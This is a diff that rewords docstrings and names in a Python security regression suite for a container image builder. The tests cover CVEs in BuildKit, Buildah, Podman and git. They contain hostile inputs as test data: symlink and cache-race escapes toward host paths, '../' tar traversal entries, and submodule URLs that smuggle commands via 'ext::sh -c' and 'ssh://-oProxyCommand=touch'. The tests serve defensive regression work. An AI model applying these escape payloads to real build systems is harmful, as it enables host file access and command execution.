@@ -1,4 +1,4 @@
-"""What Dockerfiles, contexts and repositories did to those who built them."""
+"""Attacks by Dockerfiles, build contexts and repositories."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ OFFLINE = ("--network", "none", "--progress", "plain")
 
 
 def built(builder: Builder, context: Path, *flags: str) -> str:
-    """Build, as far as it goes; what was said."""
+    """Build, which may fail; return the output."""
     done = builder("build", *OFFLINE, "--no-cache", "-t", "app", *flags, context)
     return done.stdout + done.stderr
 
@@ -46,7 +46,7 @@ def test_the_source_of_a_bind_mount_is_a_link(link: str, flags: str, builder: Bu
 def test_a_link_of_the_context(builder: Builder, outside: Outside, tmp_path: Path) -> None:
     """CVE-2024-1753 by the context, and CVE-2022-4122, CVE-2022-4123 (Podman: .containerignore and .dockerignore were
     followed out of the context): COPY, --mount and ignore files stay inside."""
-    (outside.path / "canary").write_text("")   # of an ignore file that would be read, nothing would be shown
+    (outside.path / "canary").write_text("")   # if the ignore file were read, the file would not be shown
     (outside.path / "canary").write_text(SECRET)
     away = str(outside.path)
     for line in ("COPY link/canary /c", "COPY link /c", "ADD link/canary /c", "COPY . /c",
@@ -63,7 +63,7 @@ def test_a_link_of_the_context(builder: Builder, outside: Outside, tmp_path: Pat
     "bind-propagation=rshared", "bind-propagation=shared", "propagation=rshared", "rshared", "shared", "dev", "suid",
     "exec", "relabel=shared", "z", "U", "bind-nonrecursive", "upperdir=/", "lowerdir=/", "o=upperdir=/"])
 def test_options_of_a_mount_that_reach_the_host(option: str, builder: Builder, tmp_path: Path) -> None:
-    """CVE-2024-9407 (Buildah: options went to mount(2) as they were): what Docker does not know is refused."""
+    """CVE-2024-9407 (Buildah: options were passed to mount(2) unchecked): options that Docker lacks are refused."""
     text = f"FROM busybox\nRUN --mount=type=bind,source=.,target=/m,{option} true\n"
     said = builder.fails("build", *OFFLINE, write(tmp_path / "context", text, {}))
     assert option.partition("=")[0] in said and "Dockerfile:2" in said
@@ -81,8 +81,8 @@ def test_the_name_of_a_cache_is_a_path(name: str, builder: Builder, outside: Out
 
 
 def test_a_cache_whose_content_becomes_a_link(builder: Builder, outside: Outside, tmp_path: Path) -> None:
-    """CVE-2024-23651 (BuildKit), CVE-2024-11218 (Buildah, Podman): steps at the same time share a cache, or a place in
-    another mount, and exchange a directory in it with a link, while the other is mounted. Raced."""
+    """CVE-2024-23651 (BuildKit), CVE-2024-11218 (Buildah, Podman): parallel steps share a cache, or a directory in
+    another mount, and replace a directory in it by a link while the other step mounts it. Raced."""
     away = outside.path
     swap = ("i=0; while [ $i -lt 400 ]; do mv /m/d /m/e; ln -s {} /m/d; rm /m/d; mkdir -p /m/e; mv /m/e /m/d;"
             " i=$((i+1)); done")
@@ -103,10 +103,10 @@ def test_a_cache_whose_content_becomes_a_link(builder: Builder, outside: Outside
 
 @pytest.mark.parametrize("mount", ["type=tmpfs,target=/a/empty/inner", "type=cache,target=/a/empty/inner",
                                    "type=bind,source=.,target=/a/empty/inner", "type=secret,id=s,target=/a/canary"])
-def test_places_of_mounts_are_removed_behind_a_link(mount: str, builder: Builder, outside: Outside, tmp_path: Path
+def test_mount_points_behind_a_link_are_removed(mount: str, builder: Builder, outside: Outside, tmp_path: Path
                                                     ) -> None:
-    """CVE-2024-23652 (BuildKit): what was made for a mount is removed after the step, where the step has put a link to
-    the host in its way."""
+    """CVE-2024-23652 (BuildKit): mount points are removed after the step, which has placed a link to
+    the host at their path."""
     (tmp_path / "secret").write_text("s")
     text = (f"FROM busybox\nRUN --mount={mount} mount; umount /a/empty/inner /a/canary; mv /a /b; rm -rf /a;"
             f" ln -s {outside.path} /a; ls -l /\n")
@@ -114,14 +114,14 @@ def test_places_of_mounts_are_removed_behind_a_link(mount: str, builder: Builder
     outside.check()
 
 
-# --- what a Dockerfile may ask for ------------------------------------------------------------------------------------
+# --- privileges in a Dockerfile -------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("line", ["RUN --security=insecure id", "RUN --network=host id", "RUN --device=/dev/sda id",
                                   "RUN --mount=type=bind,source=/,target=/h,from=host id"])
-def test_rights_that_nobody_has_granted(line: str, builder: Builder, tmp_path: Path) -> None:
-    """CVE-2024-23653 (BuildKit: rights without an entitlement): refused before any step, unless the command line
-    grants them; and there is no interface by which a step could ask the builder for anything."""
+def test_privileges_that_were_not_granted(line: str, builder: Builder, tmp_path: Path) -> None:
+    """CVE-2024-23653 (BuildKit: privileges without an entitlement): refused before any step, unless the command line
+    grants them; and there is no interface for requests from a step to the builder."""
     context = write(tmp_path / "context", f"FROM busybox\n{line}\n", {})
     assert "uid=" not in builder.fails("build", *OFFLINE[2:], context)
     text = "FROM busybox\nRUN find / -xdev -type s; ls /run /var/run /tmp; env\n"
@@ -130,9 +130,9 @@ def test_rights_that_nobody_has_granted(line: str, builder: Builder, tmp_path: P
 
 
 @pytest.mark.parametrize("first", ["# syntax=evil.invalid/frontend:1", "#syntax = evil.invalid/frontend"])
-def test_another_reader_of_dockerfiles(first: str, builder: Builder, tmp_path: Path) -> None:
-    """CVE-2026-33747, CVE-2024-23650 (BuildKit: a frontend that an image brings writes files of the host, or crashes
-    the builder): none is ever loaded or run; the Dockerfile is read by us alone."""
+def test_frontends_are_not_loaded(first: str, builder: Builder, tmp_path: Path) -> None:
+    """CVE-2026-33747, CVE-2024-23650 (BuildKit: a frontend from an image writes files of the host, or crashes
+    the builder): frontends are never loaded or run; only the builder parses the Dockerfile."""
     context = write(tmp_path / "context", f"{first}\nFROM busybox\nRUN echo made\n", {})
     said = built(builder, context, "--build-arg", "BUILDKIT_SYNTAX=evil.invalid/frontend")
     assert "made" in said and "cannot find the host" not in said
@@ -145,15 +145,15 @@ def test_another_reader_of_dockerfiles(first: str, builder: Builder, tmp_path: P
     "FROM busybox\nHEALTHCHECK --interval=" + "9" * 400 + "h CMD a\n",
     "FROM busybox\nRUN <<A <<B <<C\n", "FROM busybox\nEXPOSE 1-99999999999\n", "FROM busybox\nENV " + "a=${a:-" * 5000,
     "ARG a=b\n" * 2000 + "FROM $a\n", "FROM busybox\nUSER " + "9" * 5000 + "\nRUN id\n"])
-def test_dockerfiles_that_make_no_sense(text: str, builder: Builder, tmp_path: Path) -> None:
-    """CVE-2024-23650 (BuildKit: a request crashed the daemon): one error with a line, at once, and nothing else."""
+def test_invalid_dockerfiles(text: str, builder: Builder, tmp_path: Path) -> None:
+    """CVE-2024-23650 (BuildKit: a request crashed the daemon): an immediate error with a line number."""
     said = builder.fails("build", *OFFLINE, write(tmp_path / "context", text, {}))
     assert "error: " in said and len(said) < 20000
 
 
-def test_a_step_sees_nothing_of_who_builds(builder: Builder, tmp_path: Path) -> None:
-    """CVE-2021-3602 (Buildah: the environment of the host in RUN), and credentials in what is published, as in
-    CVE-2023-26054: variables of who builds are neither in a step nor in the image."""
+def test_a_step_does_not_see_the_callers_environment(builder: Builder, tmp_path: Path) -> None:
+    """CVE-2021-3602 (Buildah: the environment of the host in RUN), and credentials in published data, as in
+    CVE-2023-26054: the caller's environment variables are neither in a step nor in the image."""
     text = "FROM busybox\nARG GIVEN\nRUN env; cat /proc/1/environ /proc/1/cmdline; ls -a / /root /tmp\n"
     context = write(tmp_path / "context", text, {})
     variables = {"AWS_SECRET_ACCESS_KEY": SECRET, "HTTP_PROXY": f"http://user:{SECRET}@127.0.0.1:1/",
@@ -163,9 +163,9 @@ def test_a_step_sees_nothing_of_who_builds(builder: Builder, tmp_path: Path) -> 
     assert SECRET not in done.stderr and SECRET not in builder.ok("inspect", "app")
 
 
-def test_rights_of_a_step(builder: Builder, tmp_path: Path) -> None:
+def test_capabilities_of_a_step(builder: Builder, tmp_path: Path) -> None:
     """CVE-2022-27651 (Buildah), CVE-2022-27649 (Podman), CVE-2022-24769 (Docker): no inheritable capabilities;
-    CVE-2018-10856 (Podman): none at all for a user who is not root."""
+    CVE-2018-10856 (Podman): none at all for users other than root."""
     text = ("FROM busybox\nRUN grep Cap /proc/self/status\nUSER 1000\nRUN echo as user; grep Cap /proc/self/status;"
             " grep -c . /proc/self/status\n")
     said = built(builder, write(tmp_path / "context", text, {}))
@@ -178,9 +178,9 @@ def test_rights_of_a_step(builder: Builder, tmp_path: Path) -> None:
 @pytest.mark.timeout(120)
 @pytest.mark.parametrize("node", ["mkfifo /etc/passwd", "ln -s /dev/zero /etc/passwd", "ln -s /proc/kmsg /etc/passwd",
                                   "ln -s {away}/canary /etc/passwd", "mknod /etc/passwd c 1 5"])
-def test_a_passwd_that_is_none(node: str, builder: Builder, outside: Outside, tmp_path: Path) -> None:
+def test_a_passwd_that_is_not_a_file(node: str, builder: Builder, outside: Outside, tmp_path: Path) -> None:
     """CVE-2024-9676 (containers/storage): /etc/passwd and /etc/group of an image were read through links and pipes: the
-    builder hung, or read files of the host. Here RUN, USER, COPY --chown and `run` end."""
+    builder hung, or read files of the host. RUN, USER, COPY --chown and `run` must not."""
     commands = [node.format(away=outside.path), node.format(away=outside.path).replace("passwd", "group")]
     text = f"FROM busybox\nRUN rm /etc/passwd /etc/group; {'; '.join(commands)}\n"
     builder.build(write(tmp_path / "base", text, {}), "-t", "base", *OFFLINE)
@@ -195,8 +195,8 @@ def test_a_passwd_that_is_none(node: str, builder: Builder, outside: Outside, tm
 
 
 def test_an_image_that_pretends_to_be_a_step(builder: Builder, tmp_path: Path) -> None:
-    """CVE-2024-24557 (Docker's classic builder): the history of an image that was pulled made it a cache of steps. Only
-    what was built here, or comes from a cache that was named, is one; and each instruction is a part of the key."""
+    """CVE-2024-24557 (Docker's classic builder): the history of a pulled image made it a cache of steps. Only
+    local builds and named caches are used; and each instruction is a part of the key."""
     context = write(tmp_path / "context", "FROM busybox\nCOPY file /file\nHEALTHCHECK CMD good\n", {"file": "good"})
     builder.build(context, "-t", "honest", *OFFLINE)
     evil = tmp_path / "evil"
@@ -206,7 +206,7 @@ def test_an_image_that_pretends_to_be_a_step(builder: Builder, tmp_path: Path) -
     builder.ok("rmi", "honest")
     builder.ok("builder", "prune", "-a", "-f")
     store = Store.open(str(builder.store))
-    with store.lease():   # an image with the history of the honest one, and another file
+    with store.lease():   # an image with the history of the genuine image, and another file
         builder.ok("import", evil / "evil.tar", "evil")
         evil_one = derive(store, find(store, "evil"), None, created="2024-01-01T00:00:00Z",
                           created_by="COPY file /file", changes={"Healthcheck": {"Test": ["CMD-SHELL", "good"]}})
@@ -225,8 +225,8 @@ def test_an_image_that_pretends_to_be_a_step(builder: Builder, tmp_path: Path) -
 @pytest.mark.parametrize("attack", ["up", "link", "hard link", "link over a directory"])
 def test_an_archive_that_leaves_its_directory(attack: str, how: str, builder: Builder, outside: Outside, tmp_path: Path
                                               ) -> None:
-    """CVE-2020-10696 (Buildah), CVE-2014-9356 (Docker), "zip slip": archives that ADD unpacks, and contexts on standard
-    input."""
+    """CVE-2020-10696 (Buildah), CVE-2014-9356 (Docker), "zip slip": archives that ADD extracts, and contexts on
+    standard input."""
     away = str(outside.path).encode()
     archive = {"up": tar(file(b"../" * 20 + away[1:] + b"/canary")),
                "link": tar(symlink(b"l", away), file(b"l/canary")),
@@ -249,7 +249,7 @@ def test_an_archive_that_leaves_its_directory(attack: str, how: str, builder: Bu
 
 @pytest.fixture
 def repository(outside: Outside, tmp_path: Path) -> str:
-    """The URL of a repository with links to the host, whose Dockerfile shows every file of its context."""
+    """The URL of a repository with links to the host, whose Dockerfile prints every file of its context."""
     work = write(tmp_path / "evil.git", "FROM busybox\nCOPY . /c\nRUN find /c -type f -exec cat {} ';'; echo built\n", {
         "abs": f"-> {outside.path}", "rel": "-> ../../../../../../../../../../.." + str(outside.path), "root": "-> /",
         "git": "-> .git", "d/Dockerfile": "FROM busybox\nRUN echo inner\n", "d/up": "-> ../.."})
@@ -262,7 +262,7 @@ def repository(outside: Outside, tmp_path: Path) -> str:
 @pytest.mark.parametrize("below", ["abs", "rel", "root", "root{away}", "d/up/../..{away}", "../../../../../../..{away}",
                                    "{away}", "..", "d/../../..", "/proc/self/root{away}", "git"])
 def test_the_directory_of_a_repository(below: str, builder: Builder, repository: str, outside: Outside) -> None:
-    """CVE-2026-33748 (BuildKit), and the same of Docker's classic builder: URL#REF:DIRECTORY led out of the
+    """CVE-2026-33748 (BuildKit), also in Docker's classic builder: URL#REF:DIRECTORY led out of the
     repository."""
     (outside.path / "Dockerfile").write_text(f"FROM busybox\nRUN echo {SECRET}\n")
     outside.before = outside.state()
@@ -272,7 +272,7 @@ def test_the_directory_of_a_repository(below: str, builder: Builder, repository:
 
 
 def test_links_in_a_repository(builder: Builder, repository: str, outside: Outside) -> None:
-    """CVE-2024-32002-class: what a repository holds is the content of a context, and leads nowhere."""
+    """Class of CVE-2024-32002: the links of a repository do not lead out of the context."""
     done = builder("build", *OFFLINE, "--no-cache", repository)
     assert SECRET not in done.stdout + done.stderr
 
@@ -297,8 +297,8 @@ def test_a_repository_whose_name_is_an_option(url: str, builder: Builder, reposi
     ("../../hooks", "sub", "{work}"), ("sub", "sub", "-u./payload"), ("sub", "sub", "ext::sh -c touch% {mark}"),
     ("sub", ".git/hooks", "{work}"), ("sub", "sub", "ssh://-oProxyCommand=touch%20{mark}/x"), ("sub", "sub", "{work}")])
 def test_submodules(name: str, path: str, url: str, builder: Builder, repository: str, tmp_path: Path) -> None:
-    """CVE-2018-11235, CVE-2018-17456, CVE-2022-39253, CVE-2024-32002 (git): submodules that bring hooks, are options,
-    or copy files of this machine. No hook and no command of theirs is ever run."""
+    """CVE-2018-11235, CVE-2018-17456, CVE-2022-39253, CVE-2024-32002 (git): submodules that contain hooks, are options,
+    or copy files of the host. None of their hooks and commands is run."""
     mark = tmp_path / "mark"
     work = Path(repository.removeprefix("file://"))
     (work / "payload").write_text(f"#!/bin/sh\ntouch {mark}\n")
@@ -316,8 +316,8 @@ def test_submodules(name: str, path: str, url: str, builder: Builder, repository
     assert not mark.exists()
 
 
-def test_hooks_and_filters_of_this_user(builder: Builder, repository: str, tmp_path: Path) -> None:
-    """A template, a hook or a filter that git would run for who builds is not run for a repository of a stranger."""
+def test_hooks_and_filters_of_the_caller(builder: Builder, repository: str, tmp_path: Path) -> None:
+    """A template, hook or filter in the caller's git configuration is not run for an untrusted repository."""
     mark, home = tmp_path / "mark", tmp_path / "home"
     hook = home / "template/hooks/post-checkout"
     hook.parent.mkdir(parents=True)
